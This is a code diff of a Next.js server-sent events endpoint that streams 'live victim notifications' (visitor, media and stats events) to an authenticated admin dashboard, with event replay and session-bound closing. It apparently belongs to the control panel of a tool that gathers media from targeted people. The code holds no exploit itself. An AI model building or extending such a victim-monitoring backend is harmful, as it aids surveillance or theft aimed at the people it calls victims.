@@ -1,43 +1,70 @@
-import { addClient, removeClient } from "@/lib/sessions";
+import { NextRequest } from "next/server";
+import { getAllMedia } from "@/lib/sessions";
+import { addClient, canReplay, removeClient, replaySince, sendTo } from "@/lib/eventBus";
+import { parseTopics } from "@/lib/events";
+import { getSessionToken, requireAdmin, watchSession } from "@/lib/adminAuth";
 
 /**
  * SSE (Server-Sent Events) endpoint for real-time updates
- * Admin dashboards connect here to receive live victim notifications
+ * Admin dashboards connect here to receive live victim notifications.
+ * Message format, event types and topics: lib/events.ts
  */
 
 /**
- * GET /api/events
- * SSE endpoint for real-time victim notifications
+ * GET /api/events?topics=visitors,media,stats
+ * SSE endpoint for real-time victim notifications (admin session required).
+ * Only events on the requested topics are sent (default: all).
+ * A reconnecting EventSource sends Last-Event-ID and gets the events it
+ * missed replayed; otherwise it is told to reload and sent the live feeds.
+ * The stream closes when the admin session logs out or expires.
  */
-export async function GET(): Promise<Response> {
+export async function GET(request: NextRequest): Promise<Response> {
+    const unauthorized = requireAdmin(request);
+    if (unauthorized) return unauthorized;
+
+    const lastEventId = request.headers.get("last-event-id");
+    const topics = parseTopics(request.nextUrl.searchParams.get("topics"));
+    let clientId: string | undefined;
+    let unwatch: (() => void) | undefined;
+
     const stream = new ReadableStream({
         start(controller) {
-            // Add this client to the shared set
-            addClient(controller);
+            // Register this client with its subscriptions
+            clientId = addClient(controller, {
+                role: "admin",
+                userAgent: request.headers.get("user-agent") || "Unknown",
+                topics,
+            });
 
-            // Send initial connection message
-            const connectMessage = `data: ${JSON.stringify({ type: "connected" })}\n\n`;
-            controller.enqueue(new TextEncoder().encode(connectMessage));
+            if (lastEventId && canReplay(lastEventId)) {
+                // Resume: keep the client's position until the missed events arrive
+                sendTo(clientId, { type: "connected", resumed: true, clientId }, lastEventId);
+                replaySince(clientId, lastEventId);
+            } else {
+                // Fresh start - client reloads stats; send the current state of every feed
+                sendTo(clientId, { type: "connected", resumed: false, clientId });
+                if (topics.includes("media")) {
+                    for (const media of getAllMedia()) {
+                        sendTo(clientId, { type: "media_update", media });
+                    }
+                }
+            }
 
-            // Heartbeat to keep connection alive
-            const heartbeat = setInterval(() => {
+            // Session ended - stop sending; the dashboard sees the stream close,
+            // finds the session gone and shows the login form
+            unwatch = watchSession(getSessionToken(request)!, () => {
+                if (clientId) removeClient(clientId);
                 try {
-                    const ping = `data: ${JSON.stringify({ type: "ping" })}\n\n`;
-                    controller.enqueue(new TextEncoder().encode(ping));
+                    controller.close();
                 } catch {
-                    clearInterval(heartbeat);
-                    removeClient(controller);
+                    // Already closed
                 }
-            }, 30000); // Every 30 seconds
-
-            // Cleanup on close
-            return () => {
-                clearInterval(heartbeat);
-                removeClient(controller);
-            };
+            });
         },
         cancel() {
-            // Client disconnected
+            // Client disconnected (tab closed, EventSource.close(), network drop)
+            unwatch?.();
+            if (clientId) removeClient(clientId);
         },
     });
 